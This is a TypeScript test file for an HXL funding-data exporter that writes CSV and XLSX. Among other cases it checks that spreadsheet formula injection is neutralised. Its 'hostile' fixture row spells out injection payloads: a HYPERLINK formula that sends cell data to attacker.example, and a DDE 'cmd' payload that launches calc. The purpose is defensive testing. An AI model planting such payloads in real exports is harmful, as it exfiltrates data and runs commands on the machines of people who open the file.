import { readFileSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFts } from './fts-read.ts';
import {
  csvCell,
  FUNDING_HXL_COLUMNS,
  type FundingHxlRow,
  ftsFlowToHxlRow,
  HxlError,
  hxlCsv,
  isHxlHashtag,
  writeHxlCsv,
  writeHxlXlsx,
} from './hxl.ts';
import { SHARED_DIR, SHARED_PRESENT, SHARED_SKIP } from './test-fixtures.ts';

const rows: FundingHxlRow[] = [
  {
    reference: 'CON-1-T1',
    date: '2026-03-01',
    status: 'pledge',
    donor: 'Norwegian Agency for Development Cooperation',
    donorCode: 'NO-BRC-971277882',
    recipient: 'UNICEF',
    recipientCode: 'XM-DAC-41122',
    sector: 'Water Sanitation Hygiene',
    amountUsd: '1250000.75',
    amount: '13000000',
    currency: 'NOK',
    description: 'Pipes, "fittings", and pumps;\nphase 1',
    reverses: null,
  },
  {
    reference: 'CON-1-T2',
    date: '2026-04-15',
    status: 'paid',
    donor: 'صندوق قطر للتنمية',
    donorCode: null,
    recipient: 'UNRWA',
    recipientCode: 'XM-DAC-41130',
    sector: null,
    amountUsd: '12345678901234567.89',
    amount: null,
    currency: null,
    description: null,
    reverses: null,
  },
];

/** A reversal of the first row, and text a spreadsheet would run as a formula. */
const hostile: FundingHxlRow = {
  ...rows[0],
  reference: 'CON-1-T3',
  status: 'reversal',
  donor: '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
  recipient: "+1+cmd|' /C calc'!A0",
  recipientCode: '@SUM(1+1)',
  sector: '\t=1+1',
  amountUsd: '-1250000.75',
  amount: '-13000000',
  description: '-5 tonnes of cement',
  reverses: 'CON-1-T1',
};

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'concord-hxl-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function text(readable: NodeJS.ReadableStream): Promise<string> {
  let out = '';
  for await (const chunk of readable) out += chunk;
  return out;
}

describe('HXL CSV', () => {
  it('writes a header row, a hashtag row and the rows, which csv-parse reads back exactly', async () => {
    const csv = await text(hxlCsv(rows, FUNDING_HXL_COLUMNS));
    const table: string[][] = parse(csv);
    expect(table[0]).toEqual(FUNDING_HXL_COLUMNS.map((c) => c.header));
    expect(table[1]).toEqual([
      '#meta+id',
      '#date',
      '#status',
      '#org+funder+name',
      '#org+funder+code',
      '#org+impl+name',
      '#org+impl+code',
      '#sector+cluster+name',
      '#value+funding+usd',
      '#value+funding+original',
      '#currency',
      '#description',
      '#meta+reverses+id',
    ]);
    expect(table.length).toBe(4);
    expect(table[2][11]).toBe('Pipes, "fittings", and pumps;\nphase 1');
    expect(table[3]).toEqual([
      'CON-1-T2',
      '2026-04-15',
      'paid',
      'صندوق قطر للتنمية',
      '',
      'UNRWA',
      'XM-DAC-41130',
      '',
      '12345678901234567.89',
      '',
      '',
      '',
      '',
    ]);
  });

  it('links a reversal to what it reverses, neutralises formulas in text, and keeps negative amounts numbers', async () => {
    const table: string[][] = parse(await text(hxlCsv([rows[0], hostile], FUNDING_HXL_COLUMNS)));
    const column = (tag: string) => table[1].indexOf(tag);
    const reversal = table[3];
    expect(reversal[column('#meta+reverses+id')]).toBe(table[2][column('#meta+id')]);
    // Every text cell that a spreadsheet would take for a formula starts with a quote instead.
    const texts = {
      '#org+funder+name': hostile.donor,
      '#org+impl+name': hostile.recipient,
      '#org+impl+code': hostile.recipientCode,
      '#sector+cluster+name': hostile.sector,
      '#description': hostile.description,
    };
    for (const [tag, value] of Object.entries(texts)) expect(reversal[column(tag)], tag).toBe(`'${value}`);
    // Amounts stay plain numbers, negative ones included, so a column can be summed.
    expect(reversal[column('#value+funding+usd')]).toBe('-1250000.75');
    expect(reversal[column('#value+funding+original')]).toBe('-13000000');
    // An amount column holding text is text, and neutralised like any other.
    expect(csvCell('-1+1', true)).toBe("'-1+1");
    expect(csvCell('=1', false)).toBe("'=1");
    expect(csvCell('Gaza = Rafah', false)).toBe('Gaza = Rafah');
  });

  it('streams rows from an async source into a file', async () => {
    async function* many() {
      for (let i = 0; i < 5000; i++) yield { ...rows[0], reference: `R-${i}`, amountUsd: `${i}.5` };
    }
    const path = join(dir, 'many.csv');
    const { createWriteStream } = await import('node:fs');
    await writeHxlCsv(many(), FUNDING_HXL_COLUMNS, createWriteStream(path));
    const table: string[][] = parse(await readFile(path, 'utf8'));
    expect(table.length).toBe(5002);
    expect(table[5001][0]).toBe('R-4999');
    expect(table[5001][8]).toBe('4999.5');
  });

  it('refuses a column whose tag is not an HXL hashtag', () => {
    expect(() => hxlCsv(rows, [{ header: 'Donor', tag: 'org+funder', value: (r) => r.donor }])).toThrow(HxlError);
  });
});

describe('HXL XLSX', () => {
  it('writes the same rows, with the hashtag row, which exceljs reads back', async () => {
    const path = join(dir, 'funding.xlsx');
    const { createWriteStream } = await import('node:fs');
    await writeHxlXlsx(rows, FUNDING_HXL_COLUMNS, createWriteStream(path), { sheetName: 'Funding' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const sheet = workbook.getWorksheet('Funding')!;
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual(FUNDING_HXL_COLUMNS.map((c) => c.header));
    expect(values(2)).toEqual(FUNDING_HXL_COLUMNS.map((c) => c.tag));
    expect(sheet.getRow(3).getCell(9).value).toBe(1250000.75);
    expect(sheet.getRow(3).getCell(10).value).toBe(13000000);
    // Too many digits for a spreadsheet number: kept as exact text.
    expect(sheet.getRow(4).getCell(9).value).toBe('12345678901234567.89');
    expect(sheet.getRow(4).getCell(4).value).toBe('صندوق قطر للتنمية');
    expect(sheet.rowCount).toBe(4);
  });

  it('writes a reversal with its link, numbers as numbers and formula-like text as text cells', async () => {
    const chunks: Buffer[] = [];
    const sink = new Writable({
      write(chunk, _encoding, done) {
        chunks.push(chunk);
        done();
      },
    });
    await writeHxlXlsx([rows[0], hostile], FUNDING_HXL_COLUMNS, sink);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.concat(chunks) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0];
    const cell = (row: number, tag: string) => sheet.getRow(row).getCell(FUNDING_HXL_COLUMNS.findIndex((c) => c.tag === tag) + 1);
    expect(cell(4, '#meta+reverses+id').value).toBe('CON-1-T1');
    expect(cell(4, '#value+funding+usd').value).toBe(-1250000.75);
    expect(cell(4, '#value+funding+usd').type).toBe(ExcelJS.ValueType.Number);
    expect(cell(4, '#value+funding+original').value).toBe(-13000000);
    for (const tag of ['#org+funder+name', '#org+impl+name', '#org+impl+code', '#sector+cluster+name']) {
      expect(cell(4, tag).type, tag).toBe(ExcelJS.ValueType.String);
      expect(cell(4, tag).formula, tag).toBeUndefined();
    }
    expect(cell(4, '#org+funder+name').value).toBe(hostile.donor);
  });

  it('lays an Arabic sheet out right to left', async () => {
    const chunks: Buffer[] = [];
    const sink = new Writable({
      write(chunk, _encoding, done) {
        chunks.push(chunk);
        done();
      },
    });
    await writeHxlXlsx(rows, FUNDING_HXL_COLUMNS, sink, { rightToLeft: true });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.concat(chunks) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    expect(workbook.worksheets[0].views[0]).toMatchObject({ rightToLeft: true, state: 'frozen', ySplit: 2 });
  });
});

describe.skipIf(!SHARED_PRESENT)(`HXL export of the FTS sample (${SHARED_PRESENT ? 'present' : SHARED_SKIP})`, () => {
  it('the hashtag check accepts every tag of the HXL sample file, and rejects its header row', () => {
    const table: string[][] = parse(readFileSync(join(SHARED_DIR, 'samples/hxl/input-valid.csv'), 'utf8'), { relax_column_count: true });
    const tags = table[2].filter((t) => t !== '');
    expect(tags.length).toBe(8);
    expect(tags.every(isHxlHashtag)).toBe(true);
    expect(table[1].filter((t) => t !== '').some(isHxlHashtag)).toBe(false);
  });

  it('has one row per flow, the US dollar column summing to the file', async () => {
    const raw = readFileSync(join(SHARED_DIR, 'samples/fts/flows-opt-2020-page-3.json'), 'utf8');
    const { flows } = readFts(raw);
    const through = new PassThrough();
    const done = text(through);
    await writeHxlCsv(flows.map(ftsFlowToHxlRow), FUNDING_HXL_COLUMNS, through);
    const table: string[][] = parse(await done);
    const usd = table[1].indexOf('#value+funding+usd');
    const fromCsv = table.slice(2).reduce((sum, row) => sum + BigInt(row[usd]), 0n);
    const fromFile = [...raw.matchAll(/"amountUSD": (\d+),/g)].reduce((sum, m) => sum + BigInt(m[1]), 0n);
    expect(table.length - 2).toBe(flows.length);
    expect(fromCsv).toBe(fromFile);
  });
});
